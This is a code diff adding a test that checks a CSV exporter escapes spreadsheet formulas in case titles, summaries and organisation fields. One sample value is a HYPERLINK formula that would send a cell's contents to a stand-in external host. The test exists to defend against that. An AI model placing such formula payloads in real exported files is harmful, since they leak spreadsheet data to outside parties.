@@ -47,3 +47,15 @@ describe('exports round-trip', () => {
     });
   });
 });
+
+describe('spreadsheet formulas', () => {
+  test('a title that is a formula reaches the CSV as text, not as a live formula', () => {
+    const [entry] = library.cases;
+    const title = '=HYPERLINK("https://x.example/?"&A2,"打开")';
+    const rows = toRows('cases', [{ ...entry, data: { ...entry?.data, title, summary: '+SUM(1,2)', organization: '@cmd' } } as never], SITE);
+    const parsed = parse(toCsv('cases', rows).slice(1), { columns: true }) as Record<string, string>[];
+    expect(parsed[0]?.['title']).toBe(`'${title}`);
+    expect(parsed[0]?.['summary']).toBe(`'+SUM(1,2)`);
+    expect(parsed[0]?.['organization']).toBe(`'@cmd`);
+  });
+});
